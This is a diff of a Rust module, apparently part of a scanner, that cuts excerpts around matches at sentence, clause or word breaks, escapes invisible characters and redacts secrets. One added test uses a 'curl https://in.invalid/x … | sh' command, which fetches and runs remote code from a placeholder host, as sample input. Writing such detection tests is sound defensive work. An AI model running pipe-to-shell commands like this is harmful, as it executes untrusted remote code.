@@ -7,6 +7,19 @@ use crate::{EXCERPT_CHARS, characters};
 /// Characters of a secret shown in an excerpt.
 const SECRET_CHARS: usize = 8;
 
+/// Maximum length of the text before a match, in characters, unless the whole text fits.
+const LEAD_CHARS: usize = 80;
+
+/// Maximum length of a match in characters. A longer one is shown without its middle.
+const MATCH_CHARS: usize = EXCERPT_CHARS - 2 * CUT_CHARS;
+
+/// Part of a longer match that is shown from its end, in characters.
+const END_CHARS: usize = MATCH_CHARS / 3;
+
+/// Mark of omitted text, and its length with a space, in characters.
+const CUT: &str = "…";
+const CUT_CHARS: usize = 2;
+
 /// Text shown with a finding, and the position of the match.
 #[derive(Debug, Clone, Default)]
 pub(crate) struct Excerpt {
@@ -23,20 +36,27 @@ impl Excerpt {
         Self { text: visible(text), ..Self::default() }
     }
 
-    /// Creates an excerpt of the line around a match, cut to [`EXCERPT_CHARS`] so that the match stays visible.
-    pub fn around(line: &str, matched: Range<usize>) -> Self {
-        let before = line.get(..matched.start).unwrap_or("");
-        let rest = line.get(before.len()..).unwrap_or("");
-        // Bytes of a binary outside its text runs are zeros. Shown, they would push the match out of view.
-        let lead: Vec<char> = before.chars().rev().take(EXCERPT_CHARS / 4).take_while(|c| *c != '\0').collect();
-        let lead: String = lead.into_iter().rev().collect();
-        let start = chars(&escaped(lead.trim_start()));
+    /// Creates an excerpt of a line or a paragraph around a match. It is cut to [`EXCERPT_CHARS`] between sentences,
+    /// clauses or words, so that the beginning and the end of the match stay visible.
+    pub fn around(part: &str, matched: Range<usize>) -> Self {
+        let before = part.get(..matched.start).unwrap_or("");
+        let rest = part.get(before.len()..).unwrap_or("");
         let hit = rest.get(..matched.len()).unwrap_or(rest).trim_end();
-        let end = (start + chars(&escaped(hit))).min(EXCERPT_CHARS);
+        let after = rest.get(hit.len()..).unwrap_or("").trim_end();
+        // Bytes of a binary outside its text runs are zeros. Shown, they would push the match out of view.
+        let near = before.rsplit('\0').next().unwrap_or("").trim_start();
+        let hit = without_middle(hit);
+        let room = EXCERPT_CHARS.saturating_sub(chars(&hit));
+        let fits = prefix(near, room).len() == near.len()
+            && prefix(after, room.saturating_sub(chars(&escaped(near)))).len() == after.len();
+        let lead = if fits { escaped(near) } else { end_of(near, LEAD_CHARS.min(room / 2)) };
+        let start = chars(&lead);
+        let tail = start_of(after, room.saturating_sub(start));
+        let end = start + chars(&hit);
         Self {
-            text: visible(&format!("{lead}{}", rest.chars().take(EXCERPT_CHARS).collect::<String>())),
+            text: [lead, hit, tail].concat(),
             matched: (start < end).then_some((start, end)),
-            column: chars(before) + 1,
+            column: chars(before.rsplit('\n').next().unwrap_or("")) + 1,
         }
     }
 
@@ -44,9 +64,14 @@ impl Excerpt {
     /// in the line.
     pub fn redacted(line: &str, start: usize, secret: &str) -> Self {
         let head: String = secret.chars().take(SECRET_CHARS).collect();
-        let text = visible(&format!("{head}… ({} characters)", chars(secret)));
+        let text = visible(&format!("{head}{CUT} ({} characters)", chars(secret)));
         Self { text, matched: None, column: chars(line.get(..start).unwrap_or("")) + 1 }
     }
+}
+
+/// Returns whether an excerpt was shortened inside the match, or shows a part of a secret.
+pub(crate) fn has_gap(excerpt: &str) -> bool {
+    excerpt.trim_start_matches(CUT).trim_end_matches(CUT).contains(CUT)
 }
 
 fn chars(text: &str) -> usize {
@@ -55,23 +80,125 @@ fn chars(text: &str) -> usize {
 
 /// Trims a text, cuts it to [`EXCERPT_CHARS`], and writes control, format and invisible characters as `\u{…}`.
 pub(crate) fn visible(text: &str) -> String {
-    escaped(text.trim())
+    start_of(text.trim(), EXCERPT_CHARS)
 }
 
+/// Returns a match in visible characters. The middle of one above [`MATCH_CHARS`] is omitted.
+fn without_middle(hit: &str) -> String {
+    if prefix(hit, MATCH_CHARS).len() == hit.len() {
+        return escaped(hit);
+    }
+    let start = start_of(hit, MATCH_CHARS - END_CHARS);
+    let end = end_of(hit, END_CHARS);
+    [start.as_str(), end.trim_start_matches(CUT)].concat()
+}
+
+/// Returns the beginning of a text in at most `room` visible characters, with a mark if the rest is omitted.
+fn start_of(text: &str, room: usize) -> String {
+    if prefix(text, room).len() == text.len() {
+        return escaped(text);
+    }
+    let Some(room) = room.checked_sub(CUT_CHARS) else { return String::new() };
+    let kept = prefix(text, room);
+    let breaks = breaks(text, kept.len());
+    let end = best(breaks.rev(), |at| at > kept.len() / 2).unwrap_or(kept.len());
+    let kept = kept.get(..end).unwrap_or(kept);
+    let space = if text.get(end..).is_some_and(|rest| rest.starts_with(char::is_whitespace)) { " " } else { "" };
+    [&escaped(kept.trim_end()), space, CUT].concat()
+}
+
+/// Returns the end of a text in at most `room` visible characters, with a mark if the rest is omitted.
+fn end_of(text: &str, room: usize) -> String {
+    let Some(room) = room.checked_sub(CUT_CHARS) else { return String::new() };
+    let mut left = room;
+    let fits = |(_, c): &(usize, char)| {
+        let fits = left.checked_sub(cost(*c));
+        left = fits.unwrap_or(0);
+        fits.is_some()
+    };
+    let start = text.char_indices().rev().take_while(fits).last().map_or(text.len(), |(at, _)| at);
+    let kept = text.get(start..).unwrap_or("");
+    if start == 0 {
+        return escaped(text);
+    }
+    // A break at the very start of the part counts too, so the search begins with the character before it.
+    let from = text.get(..start).and_then(|before| before.chars().next_back()).map_or(0, char::len_utf8);
+    let window = text.get(start - from..).unwrap_or(kept);
+    let begins = best(breaks(window, window.len()), |at| at < window.len() / 2).unwrap_or(from);
+    let kept = window.get(begins..).unwrap_or(kept);
+    let space = if kept.starts_with(char::is_whitespace) { " " } else { "" };
+    [CUT, space, &escaped(kept.trim_start())].concat()
+}
+
+/// Returns the longest prefix of at most `room` visible characters.
+fn prefix(text: &str, room: usize) -> &str {
+    let mut left = room;
+    for (at, c) in text.char_indices() {
+        match left.checked_sub(cost(c)) {
+            Some(rest) => left = rest,
+            None => return text.get(..at).unwrap_or(""),
+        }
+    }
+    text
+}
+
+/// Place at which a text may be cut, in ascending order of preference.
+#[derive(Clone, Copy, PartialEq)]
+enum Break {
+    Word,
+    Clause,
+    Sentence,
+}
+
+/// Returns the best place for a cut. Clauses and words count only if they are `near`.
+fn best(breaks: impl Iterator<Item = (usize, Break)> + Clone, near: impl Fn(usize) -> bool) -> Option<usize> {
+    [Break::Sentence, Break::Clause, Break::Word].into_iter().find_map(|wanted| {
+        let counts = |(at, kind): &(usize, Break)| *kind == wanted && (wanted == Break::Sentence || near(*at));
+        breaks.clone().find(counts).map(|(at, _)| at)
+    })
+}
+
+/// Returns the places up to byte `end` at which a text may be cut, each behind the last character kept.
+fn breaks(text: &str, end: usize) -> impl DoubleEndedIterator<Item = (usize, Break)> + Clone {
+    let kind = move |at: usize, c: char| {
+        let after = at + c.len_utf8();
+        let is_space = |c: char| c.is_whitespace();
+        let before_space = text.get(after..).is_some_and(|rest| rest.starts_with(is_space));
+        let kind = match c {
+            '。' | '！' | '？' => Break::Sentence,
+            '，' | '；' | '：' | '、' => Break::Clause,
+            '.' | '!' | '?' if before_space => Break::Sentence,
+            ',' | ';' | ':' | '|' | '&' | ')' if before_space => Break::Clause,
+            c if before_space && !is_space(c) => Break::Word,
+            _ => return None,
+        };
+        (after <= end).then_some((after, kind))
+    };
+    let within = text.get(..end).unwrap_or(text);
+    within.char_indices().filter_map(move |(at, c)| kind(at, c)).collect::<Vec<_>>().into_iter()
+}
+
+/// Returns the number of visible characters of a character.
+fn cost(c: char) -> usize {
+    if is_shown(c) { 1 } else { c.escape_unicode().len() }
+}
+
+fn is_shown(c: char) -> bool {
+    matches!(c, '\t' | '\n' | '\r') || !c.is_control() && !characters::is_invisible(c)
+}
+
+/// Writes a text in visible characters. A line end and the indent behind it become one space.
 fn escaped(text: &str) -> String {
     let mut shown = String::new();
-    let mut count = 0;
+    let mut is_indent = false;
     for c in text.chars() {
-        let piece: String = match c {
-            '\t' | '\n' | '\r' => " ".to_owned(),
-            c if c.is_control() || characters::is_invisible(c) => c.escape_unicode().to_string(),
-            c => c.to_string(),
-        };
-        count += chars(&piece);
-        if count > EXCERPT_CHARS {
-            break;
+        match c {
+            ' ' | '\t' | '\n' | '\r' if is_indent => {}
+            '\t' | '\n' | '\r' => shown.push(' '),
+            c if is_shown(c) => shown.push(c),
+            c => shown.extend(c.escape_unicode()),
         }
-        shown.push_str(&piece);
+        is_indent = matches!(c, '\n' | '\r') || is_indent && matches!(c, ' ' | '\t');
     }
     shown
 }
@@ -85,7 +212,7 @@ mod tests {
         let line = format!("{}MATCH{}", "a".repeat(5000), "é".repeat(5000));
         let excerpt = Excerpt::around(&line, 5000..5005);
         let shown = &excerpt.text;
-        assert_eq!((excerpt.matched, excerpt.column), (Some((40, 45)), 5001));
+        assert_eq!((excerpt.matched, excerpt.column), (Some((79, 84)), 5001));
         assert!(shown.contains("MATCH") && shown.chars().count() <= EXCERPT_CHARS, "{shown}");
         assert_eq!(visible(" a\u{202E}b\u{E0041}\x1b "), "a\\u{202e}b\\u{e0041}\\u{1b}");
     }
@@ -105,5 +232,40 @@ mod tests {
     fn a_secret_is_not_repeated() {
         let excerpt = Excerpt::redacted("key = ghp_0123456789", 6, "ghp_0123456789");
         assert_eq!((excerpt.text.as_str(), excerpt.matched, excerpt.column), ("ghp_0123… (14 characters)", None, 7));
+    }
+
+    /// Returns the excerpt of a text around its first occurrence of some words.
+    fn of(text: &str, words: &str) -> String {
+        let at = text.find(words).unwrap();
+        Excerpt::around(text, at..at + words.len()).text
+    }
+
+    #[test]
+    fn cuts_fall_between_sentences_and_words() {
+        let (before, after) = ("An earlier sentence of this page. ".repeat(9), "Another sentence follows. ".repeat(9));
+        let shown = of(&format!("{before}Run the MATCH now, then stop. {after}"), "MATCH");
+        assert!(shown.starts_with("… An earlier sentence") && shown.ends_with("follows. …"), "{shown}");
+        let command = format!("tool {} | MATCH --flag {}", "--option value".repeat(20), "argument ".repeat(40));
+        let shown = of(&command, "MATCH");
+        assert!(shown.starts_with('…') && shown.ends_with("argument …"), "{shown}");
+        assert!(shown.chars().count() <= EXCERPT_CHARS, "{shown}");
+        assert_eq!(of("short. Run the MATCH now", "MATCH"), "short. Run the MATCH now");
+    }
+
+    #[test]
+    fn long_match_keeps_both_ends() {
+        let matched = format!("curl https://in.invalid/x {} | sh", "--header a:b ".repeat(60));
+        let excerpt = Excerpt::around(&format!("{}{matched} && rest", "x ".repeat(200)), 400..400 + matched.len());
+        let (from, to) = excerpt.matched.unwrap();
+        let shown: String = excerpt.text.chars().skip(from).take(to - from).collect();
+        assert!(shown.starts_with("curl https://in.invalid/x") && shown.ends_with("| sh"), "{shown}");
+        assert!(has_gap(&excerpt.text) && excerpt.text.chars().count() <= EXCERPT_CHARS, "{}", excerpt.text);
+        assert!(!has_gap("… a b …") && has_gap("ghp_0123… (14 characters)"));
+    }
+
+    #[test]
+    fn wrapped_lines_are_joined() {
+        assert_eq!(of("Read the\n   whole text,\r\n\tand MATCH it", "MATCH"), "Read the whole text, and MATCH it");
+        assert_eq!(of("a\u{1b}[2J MATCH", "MATCH"), "a\\u{1b}[2J MATCH");
     }
 }
